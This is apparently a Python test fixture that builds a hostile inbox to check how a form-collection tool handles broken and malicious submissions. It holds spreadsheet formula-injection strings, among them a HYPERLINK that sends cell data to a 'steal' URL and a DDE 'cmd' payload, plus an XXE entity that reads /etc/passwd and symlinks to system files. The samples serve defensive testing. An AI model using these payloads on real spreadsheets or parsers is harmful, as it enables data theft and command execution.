"""Issue #5, part 2: ONE inbox holding every hostile or broken input together with good files, and what
`collect` must say about each entry (outcome + exact problem codes).

`build_inbox(dest, campaign) -> Inbox` writes:

- `dest/inbox/`: the good files (some with formula-like texts in 扣分说明/完成情况/存在问题, some with odd
  names: spaces, a line break, 250 bytes, not UTF-8, GBK, a leading '='; some renamed .xls/.ods/.doc), a
  superseded duplicate, `表格问题/` (one filled form per validation problem, tests/cases.py, plus the cases
  below), `恶意文件/` (tests/hostile_corpus.py, patched from a real filled form), documents, junk,
  office leftovers, a hidden folder, a FIFO, symlinks (inside, outside, to a folder outside, dangling,
  loops, /etc/passwd) and one file made unreadable while collecting (`unreadable(inbox)`);
- `dest/outside/`: the targets of the links that point out of the inbox (a good form: if it were followed
  it would be accepted);
- `dest/roster.csv`: the roster the inbox was made for (the built-in one plus test branches).

`Inbox.expected` maps every entry, by the path 文件清单 shows for it, to its `Expect`.

Run as a script for a manual look: `python tests/hostile_inbox.py DEST` builds DEST, runs `collect`
through the CLI into DEST/out/汇总表.xlsx and prints the per-case table: file → outcome → code(s).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import os
import re
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import openpyxl
from cases import (
    CASES,
    S01_2_NOTE,
    S01_2_SCORE,
    T02_DONE,
    T02_STATUS,
    Case,
    build_case,
    built_cases,
    make_campaign,
)
from fill import Edit, Key, clean_values, fill_form, insert_rows, remove_sheet, set_cell
from hostile_corpus import build_corpus, build_zip, patch
from openpyxl.workbook.workbook import Workbook

from dangjian_xlsx.catalog import roster_csv
from dangjian_xlsx.forms import build_form
from dangjian_xlsx.layout import META_SHEET, Field, form_layout
from dangjian_xlsx.models import Branch, Campaign, FormKind, Outcome
from dangjian_xlsx.visible import visible

S1, S2 = FormKind.SCORING, FormKind.TASKS
F1, F2 = "评分表", "重点任务清单"
A, W, N, R = Outcome.ACCEPTED, Outcome.WARNINGS, Outcome.NEEDS_FIX, Outcome.REJECTED
CASES_DIR, CORPUS_DIR = "表格问题", "恶意文件"
UNREADABLE = "无权限读取的附件1.xlsx"

# Texts a spreadsheet would take for a formula; tab/CR-led ones are stripped to '=…' when read.
INJECTIONS = (
    '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"点此查看佐证")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
)


@dataclass(frozen=True)
class Expect:
    outcome: Outcome
    codes: tuple[str, ...] = ()  # exactly the codes of the file's problems, in order
    what: str = ""  # a short note for the table


@dataclass
class Inbox:
    root: Path
    outside: Path
    roster: Path
    campaign: Campaign
    expected: dict[str, Expect] = field(default_factory=dict)
    injections: set[str] = field(default_factory=set)  # formula-like texts as read (stripped)


# ---------------------------------------------------------------- extra cases (collect-level codes)


def as_text(sheet: str, *refs: str) -> Edit:
    """Store the cells' strings as text even when they start with '=' (openpyxl would write a formula)."""

    def edit(wb: Workbook) -> None:
        for ref in refs:
            wb[sheet][ref].data_type = "s"

    return edit


def move_sheet(name: str, offset: int) -> Edit:
    def edit(wb: Workbook) -> None:
        wb.move_sheet(name, offset)

    return edit


def insert_cols(sheet: str, col: int, amount: int = 1) -> Edit:
    def edit(wb: Workbook) -> None:
        wb[sheet].insert_cols(col, amount)

    return edit


def _nan_score(data: bytes) -> bytes:
    """The S01.2 score cell saved as the number NaN (what a broken converter writes)."""
    sub = re.compile(rb'(<c r="E6"[^>]*>)<v>[^<]*</v>')
    return patch(data, "xl/worksheets/sheet1.xml", lambda x: sub.sub(rb"\1<v>NaN</v>", x, count=1))


SCORE, NOTE = (Field.SCORE, "S01.2"), (Field.NOTE, "S01.2")
EXTRA_CASES: tuple[tuple[Case, Callable[[bytes], bytes] | None], ...] = (
    (Case("meta_removed", S1, ("meta-missing",), outcome=R, edit=remove_sheet(META_SHEET)), None),
    (Case("sheet_order_changed", S2, ("sheet-order",), outcome=W, edit=move_sheet(F2, 1)), None),
    (
        Case(
            "branch_mismatch_form2",
            S2,
            ("branch-mismatch",),
            "B3",
            R,
            edit=set_cell(F2, "B3", "名单外的党总支"),
        ),
        None,
    ),
    (Case("rows_inserted_form2", S2, ("rows-shifted",), outcome=R, edit=insert_rows(F2, 7, 2)), None),
    (Case("column_inserted", S1, ("rows-shifted",), outcome=R, edit=insert_cols(F1, 3)), None),
    (Case("score_formula", S1, ("formula-in-input",), S01_2_SCORE, N, {SCORE: "=1+1"}), None),
    (Case("score_error_value", S1, ("score-not-number",), S01_2_SCORE, N, {SCORE: "#VALUE!"}), None),
    (
        Case(
            "score_formula_as_text",
            S1,
            ("score-not-number",),
            S01_2_SCORE,
            N,
            {SCORE: "=1+1"},
            edit=as_text(F1, S01_2_SCORE),
        ),
        None,
    ),
    (Case("score_nan", S1, ("score-not-number",), S01_2_SCORE, N, {SCORE: 1}), _nan_score),
    (Case("score_1e308", S1, ("score-out-of-range",), S01_2_SCORE, N, {SCORE: 1e308}), None),
    (
        Case(
            "note_formula",
            S1,
            ("formula-in-input",),
            S01_2_NOTE,
            N,
            {SCORE: 1.5, NOTE: '=HYPERLINK("http://127.0.0.1:9/","佐证")'},
        ),
        None,
    ),
    (Case("date_formula", S1, ("formula-in-input",), "E3", W, {(Field.DATE, ""): "=TODAY()"}), None),
    (Case("done_formula", S2, ("formula-in-input",), T02_DONE, N, {(Field.DONE, "T02"): "=A1&B1"}), None),
    (
        Case(
            "status_formula_text",
            S2,
            ("status-invalid",),
            T02_STATUS,
            N,
            {(Field.STATUS, "T02"): "=1+1"},
            edit=as_text(F2, T02_STATUS),
        ),
        None,
    ),
    (
        Case(
            "branch_typed_formula_text",
            S1,
            ("branch-unknown",),
            "B3",
            R,
            blank=True,
            header="=cmd|' /C calc'!A0",
            edit=as_text(F1, "B3"),
        ),
        None,
    ),
)


def hostile_campaign(campaign: Campaign, extra: int = 40) -> Campaign:
    """make_campaign's roster (one branch per case) plus `extra` branches for the other files."""
    base = make_campaign(campaign)
    more = tuple(Branch(seq=400 + i, name=f"验证{i:02d}学院党总支") for i in range(extra))
    return base.model_copy(update={"roster": base.roster + more})


# ---------------------------------------------------------------- small files


def docx(body_xml: str, doctype: str = "") -> bytes:
    """A minimal Word document; `body_xml` goes inside <w:body>, `doctype` before the root element."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return build_zip(
        [
            (
                "[Content_Types].xml",
                b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
                b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                b'wordprocessingml.document.main+xml"/></Types>',
            ),
            (
                "word/document.xml",
                (
                    f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="{w}"><w:body>'
                    f"{body_xml}</w:body></w:document>"
                ).encode(),
            ),
        ]
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


MINI_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


@contextlib.contextmanager
def unreadable(inbox: Path) -> Iterator[None]:
    """Make UNREADABLE unreadable while collecting in this process: chmod 000, or — as root, whom file
    permissions do not stop — make collect's open() fail for it with EACCES, as the OS would."""
    from dangjian_xlsx.collect import classify as collect

    path = inbox / UNREADABLE
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(0)
        try:
            yield
        finally:
            path.chmod(mode)
        return
    real_open = open

    def fake_open(p: object, *args: object, **kw: object) -> object:
        if os.fsdecode(p).endswith(UNREADABLE):  # type: ignore[arg-type]
            raise PermissionError(13, "Permission denied", os.fsdecode(p))  # type: ignore[arg-type]
        return real_open(p, *args, **kw)  # type: ignore[call-overload]

    collect.open = fake_open  # type: ignore[attr-defined]
    try:
        yield
    finally:
        del collect.open  # type: ignore[attr-defined]


# ---------------------------------------------------------------- the inbox


def build_inbox(dest: Path, campaign: Campaign) -> Inbox:
    """Write the whole hostile inbox under `dest` (see the module docstring); `campaign` = hostile_campaign(…)."""
    dest = Path(dest)
    root, outside = dest / "inbox", dest / "outside"
    root.mkdir(parents=True)
    outside.mkdir()
    roster = dest / "roster.csv"
    roster.write_text(roster_csv(campaign.roster), encoding="utf-8")
    box = Inbox(root=root, outside=outside, roster=roster, campaign=campaign)
    exp = box.expected
    cat = campaign.catalog
    free = iter(range(len(CASES), len(campaign.roster)))

    def write(rel: str | bytes, data: bytes, expect: Expect | None = None) -> Path:
        raw = os.fsencode(root) + b"/" + (rel if isinstance(rel, bytes) else rel.encode())
        path = Path(os.fsdecode(raw))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        if expect is not None:
            exp[shown(rel)] = expect
        return path

    def form(
        kind: FormKind, branch: Branch, values: dict[Key, object] | None = None, edit: Edit | None = None
    ) -> bytes:
        vals = clean_values(cat, kind)
        vals.update(values or {})
        tmp = dest / "work.xlsx"
        fill_form(build_form(campaign, kind, branch), tmp, vals, catalog=cat, edit=edit)
        data = tmp.read_bytes()
        tmp.unlink()
        return data

    # 1. one filled form per validation problem (tests/cases.py), and the cases above
    for case in CASES:
        src = built_cases(campaign)[case.name]
        write(f"{CASES_DIR}/{src.name}", src.read_bytes(), Expect(case.outcome, case.codes, case.name))
    for case, post in EXTRA_CASES:
        index = next(free)
        path = dest / f"{index:02d}_{case.name}.xlsx"
        build_case(case, index, campaign, dest)
        data = path.read_bytes()
        path.unlink()
        write(
            f"{CASES_DIR}/{index:02d}_{case.name}.xlsx",
            post(data) if post else data,
            Expect(case.outcome, case.codes, case.name),
        )

    # 2. the file-level corpus, patched from a real filled form (xlsxwriter: it has a shared-string table)
    corpus_branch = campaign.roster[next(free)]
    good_form = build_form(campaign, S1, corpus_branch, prefill=clean_values(cat, S1))
    corpus = build_corpus(root / CORPUS_DIR, good_form=good_form)
    for name, code in corpus.items():
        outcome = W if code == "text-too-long" else R  # the long text is cut; the form itself is fine
        exp[f"{CORPUS_DIR}/{name}"] = Expect(outcome, (code,), "hostile_corpus")

    # 3. good files: formula-like texts in every free-text column, stored as text cells
    b = campaign.roster[next(free)]
    lay1, lay2 = form_layout(cat, S1), form_layout(cat, S2)
    items = [i for i in cat.items if i.points >= 1][: len(INJECTIONS)]
    v1: dict[Key, object] = {}
    for item, text in zip(items, INJECTIONS, strict=True):
        v1[(Field.SCORE, item.id)] = item.points - 1  # a deduction: the note goes to 问题台账
        v1[(Field.NOTE, item.id)] = text
    refs1 = [lay1.input(Field.NOTE, i.id).a1 for i in items]
    write("附件1_公式样文字.xlsx", form(S1, b, v1, as_text(F1, *refs1)), Expect(A, (), "injections as text"))
    v2: dict[Key, object] = {}
    refs2 = []
    for k, task in enumerate(cat.tasks[: len(INJECTIONS)]):
        v2[(Field.STATUS, task.id)] = "持续推进"
        v2[(Field.DONE, task.id)] = INJECTIONS[k]
        v2[(Field.ISSUES, task.id)] = INJECTIONS[(k + 1) % len(INJECTIONS)]
        refs2 += [lay2.input(Field.DONE, task.id).a1, lay2.input(Field.ISSUES, task.id).a1]
    write("附件2_公式样文字.xlsx", form(S2, b, v2, as_text(F2, *refs2)), Expect(A, (), "injections as text"))
    box.injections.update(t.strip() for t in INJECTIONS)

    # 4. good files with odd names; renamed and re-typed files are read by content
    long_name = "附件1_" + "郑州师范学院全面从严治党" * 6 + "评分表（终稿）.xlsx"
    assert 200 < len(long_name.encode()) <= 255, len(long_name.encode())
    odd: list[tuple[str | bytes, FormKind, str]] = [
        ("附件1 评分表 (最终版).xlsx", S1, "spaces"),
        ("  前后有空格的附件2  .xlsx", S2, "leading/trailing spaces"),
        (long_name, S1, f"{len(long_name.encode())}-byte name"),
        ('=HYPERLINK("x","y")附件2.xlsx', S2, "name starts with '='"),
        ("换行\n名称的附件1.xlsx", S1, "line break in the name"),
        (b"bad\xff\xfe\xfd-\xe9\x99\x84\xe4\xbb\xb62.xlsx", S2, "name not UTF-8"),
        ("中文附件1.xlsx".encode("gbk"), S1, "GBK name (Windows zip)"),
        ("附件2.xls", S2, "xlsx named .xls"),
        ("附件1.ods", S1, "xlsx named .ods"),
        ("附件2.doc", S2, "xlsx named .doc"),
    ]
    for k in range(0, len(odd), 2):
        branch = campaign.roster[next(free)]
        for rel, kind, what in odd[k : k + 2]:
            write(rel, form(kind, branch), Expect(A, (), what))

    # 5. a duplicate (the later fill date wins), a nested folder, a link to a file inside the inbox
    b = campaign.roster[next(free)]
    older = form(S2, b, {(Field.DATE, ""): dt.date(2018, 9, 27)})
    write("重复提交/附件2.xlsx", older, Expect(Outcome.SUPERSEDED, ("superseded",), "older copy"))
    write("重复提交/附件2(1).xlsx", form(S2, b), Expect(A, (), "newer copy"))
    b = campaign.roster[next(free)]
    write("第二批/子文件夹/附件1.xlsx", form(S1, b), Expect(A, (), "nested folder"))
    (root / "链接_文件夹内.xlsx").symlink_to(Path("第二批/子文件夹/附件1.xlsx"))
    exp["链接_文件夹内.xlsx"] = Expect(Outcome.SUPERSEDED, ("superseded",), "link inside: same content")

    # 6. links that must not be followed out of the inbox, and other file-system oddities
    secret = outside / "文件夹外的附件1.xlsx"
    secret.write_bytes(form(S1, campaign.roster[next(free)]))
    links = {
        "链接_文件夹外文件.xlsx": secret,
        "链接_文件夹外目录": outside,
        "链接_失效.xlsx": root / "不存在.xlsx",
        "链接_循环.xlsx": root / "链接_循环.xlsx",
        "链接_循环目录": Path("."),
        "链接_上级目录": Path(".."),
        "链接_系统文件.xlsx": Path("/etc/passwd"),
    }
    for name, target in links.items():
        (root / name).symlink_to(target)
        exp[name] = Expect(Outcome.IGNORED, ("ignored",), "symlink")
    os.mkfifo(root / "命名管道.xlsx")
    exp["命名管道.xlsx"] = Expect(Outcome.IGNORED, ("ignored",), "FIFO")
    write(
        UNREADABLE,
        form(S1, campaign.roster[next(free)]),
        Expect(R, ("file-unreadable",), "permission denied"),
    )
    write(".隐藏文件夹/附件1.xlsx", form(S1, campaign.roster[next(free)]))
    exp[".隐藏文件夹"] = Expect(Outcome.IGNORED, ("ignored",), "hidden folder")
    for name, data in {
        "~$附件1.xlsx": b"\x00" * 165,
        ".~lock.附件1.xlsx#": b",user,host,28.09.2018 10:00,file:///home/user/.config/libreoffice/4;",
        ".DS_Store": b"\x00\x00\x00\x01Bud1",
        "Thumbs.db": b"\xd0\xcf\x11\xe0",
        "desktop.ini": b"[.ShellClassInfo]\r\n",
    }.items():
        write(name, data, Expect(Outcome.IGNORED, ("ignored",), "office/system leftover"))

    # 7. documents: a report, and what is not one (an entity must never be expanded to name a branch)
    write(
        "文学院党总支自查报告.docx",
        docx(paragraph("关于全面从严治党主体责任落实情况的自查报告")),
        Expect(Outcome.REPORT, (), "自查报告"),
    )
    write(
        "会议通知.docx",
        docx(paragraph("关于召开会议的通知")),
        Expect(Outcome.NOT_A_FORM, ("not-a-form",), "other document"),
    )
    xxe = '<!DOCTYPE w:document [<!ENTITY b "文学院党总支"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
    write(
        "关于自查情况的报告.docx",
        docx(paragraph("&b;自查报告 &x;"), xxe),
        Expect(Outcome.NOT_A_FORM, ("not-a-form",), "docx with entities"),
    )
    write(
        "Word文档改名.xlsx",
        docx(paragraph("会议纪要")),
        Expect(Outcome.NOT_A_FORM, ("not-a-form",), "docx named .xlsx"),
    )
    write("PDF改名.xlsx", MINI_PDF, Expect(Outcome.NOT_A_FORM, ("not-a-form",), "pdf named .xlsx"))
    with io.BytesIO() as buf:
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("附件1.xlsx", form(S1, campaign.roster[next(free)]))
        write("附件打包.zip", buf.getvalue(), Expect(Outcome.IGNORED, (), "zip archive, opened"))
    exp["附件打包.zip › 附件1.xlsx"] = Expect(Outcome.ACCEPTED, (), "a form inside a zip, read like a file")
    write("说明.txt", "请查收附件。".encode(), Expect(Outcome.NOT_A_FORM, ("not-a-form",), "text"))
    return box


def shown(rel: str | bytes) -> str:
    """The path 文件清单 shows, part by part: UTF-8, else GBK (Windows zip archives) marked （GBK） — never
    the same as a UTF-8 name —, else UTF-8 with each undecodable byte written visibly (\\xff)."""
    raw = rel if isinstance(rel, bytes) else rel.encode()
    return visible("/".join(_shown_part(p) for p in raw.split(b"/")), newlines=False)  # a line break as ␊


def _shown_part(raw: bytes) -> str:
    try:
        return raw.decode("utf-8")
    except UnicodeDecodeError:
        pass
    try:
        return raw.decode("gbk") + "（GBK）"
    except UnicodeDecodeError:
        return raw.decode("utf-8", "backslashreplace")


def inbox_entries(root: Path) -> list[str]:
    """Every entry collect must account for, computed independently of collect.discover: files (any
    kind, links included) and the folders it does not enter (hidden ones, links), as shown paths."""
    out = []
    base = os.fsencode(root)
    for dirpath, dirs, files in os.walk(base, followlinks=False):
        rel = os.path.relpath(dirpath, base)
        prefix = b"" if rel == b"." else rel + b"/"
        for d in list(dirs):
            if d.startswith(b".") or os.path.islink(os.path.join(dirpath, d)):
                out.append(shown(prefix + d))
                dirs.remove(d)
        out += [shown(prefix + f) for f in files]
    return sorted(out)


# ---------------------------------------------------------------- reading the summary back


def sheet_rows(ws: object) -> list[dict[str, object]]:
    """The rows of a summary table as {header: value}; the header row is the one starting with 文件."""
    rows = list(ws.iter_rows(values_only=True))  # type: ignore[attr-defined]
    h = next(i for i, r in enumerate(rows) if r and r[0] == "文件")
    return [dict(zip(rows[h], r, strict=False)) for r in rows[h + 1 :] if any(v is not None for v in r)]


def read_summary(path: Path) -> tuple[list[dict[str, object]], list[dict[str, object]]]:
    """(文件清单 rows, 校验问题 rows) of a summary workbook."""
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return sheet_rows(wb["文件清单"]), sheet_rows(wb["校验问题"])
    finally:
        wb.close()


# ---------------------------------------------------------------- the table


def table_lines(files_rows: list[dict[str, object]], problems: dict[str, list[str]]) -> list[str]:
    """One line per 文件清单 row: file → outcome → problem(s) (问题类别, from 校验问题)."""
    lines = []
    for r in files_rows:
        path = str(r["文件"])
        codes = ", ".join(dict.fromkeys(problems.get(path, []))) or "—"
        lines.append(f"{path!r} → {r['处理结果']} → {codes}")
    return lines


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/hostile_inbox.py DEST", file=sys.stderr)
        return 2
    from click.testing import CliRunner

    from dangjian_xlsx.catalog import default_campaign
    from dangjian_xlsx.cli import cli

    dest = Path(argv[0])
    box = build_inbox(dest, hostile_campaign(default_campaign()))
    out = dest / "out" / "汇总表.xlsx"
    with unreadable(box.root):
        result = CliRunner().invoke(
            cli, ["collect", str(box.root), "--out", str(out), "--roster", str(box.roster)]
        )
    print(result.output)
    if result.exception is not None:
        raise result.exception
    files, problems = read_summary(out)
    by_file: dict[str, list[str]] = {}
    for p in problems:
        by_file.setdefault(str(p["文件"]), []).append(str(p["问题类别"]))
    print("\n".join(table_lines(files, by_file)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
